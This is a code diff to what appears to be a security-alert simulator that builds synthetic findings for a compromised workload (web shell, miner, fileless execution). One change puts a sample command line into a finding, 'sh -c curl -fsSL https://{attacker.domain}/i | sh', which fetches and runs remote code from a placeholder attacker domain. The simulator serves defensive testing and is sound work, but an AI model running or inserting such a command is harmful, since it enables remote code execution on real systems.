@@ -13,7 +13,7 @@ from tracehound.simulator.builders.runtime import (
     new_binary,
     runtime,
 )
-from tracehound.simulator.chains import child, download, web_shell
+from tracehound.simulator.chains import child, download, from_memory, web_shell
 from tracehound.simulator.finding import Reported
 from tracehound.simulator.organization import EcsService
 from tracehound.simulator.processes import Process
@@ -58,7 +58,7 @@ def infect(scene: Scene, place: Workplace, attacker: Attacker, pool: str, at: fl
         pwd="/tmp",
         sha256=attacker.tool_sha256,
     )
-    findings = [_shell_finding(scene, place, shell)]
+    findings = [_shell_finding(scene, place, shell, attacker)]
     if rng.random() < 0.8:
         draft = new_binary(rng, place, always(miner), writer, written_at)
         findings.append(scene.report(draft, "new_binary", miner.start + 1))
@@ -66,7 +66,7 @@ def infect(scene: Scene, place: Workplace, attacker: Attacker, pool: str, at: fl
     return findings
 
 
-def _shell_finding(scene: Scene, place: Workplace, shell: Process) -> Reported:
+def _shell_finding(scene: Scene, place: Workplace, shell: Process, attacker: Attacker) -> Reported:
     if scene.rng.random() < 0.5:
         type_, context = (
             "Execution:Runtime/SuspiciousShellCreated",
@@ -75,7 +75,7 @@ def _shell_finding(scene: Scene, place: Workplace, shell: Process) -> Reported:
     else:
         type_, context = (
             "Execution:Runtime/SuspiciousCommand",
-            {"commandLineExample": "sh -c curl -fsSL … | sh"},
+            {"commandLineExample": f"sh -c curl -fsSL https://{attacker.domain}/i | sh"},
         )
     draft = runtime(scene.rng, place, type_, always(shell), context=context)
     return scene.report(draft, "web_shell", shell.start + 0.5)
@@ -97,8 +97,7 @@ def _mine(scene: Scene, place: Workplace, attacker: Attacker, pool: str, miner: 
             rng,
             place,
             "DefenseEvasion:Runtime/FilelessExecution",
-            always(miner),
-            context={"memoryRegions": ["/memfd:kernel (deleted)"]},
+            always(from_memory(place.tree, miner)),
         ),
         connection(
             rng,
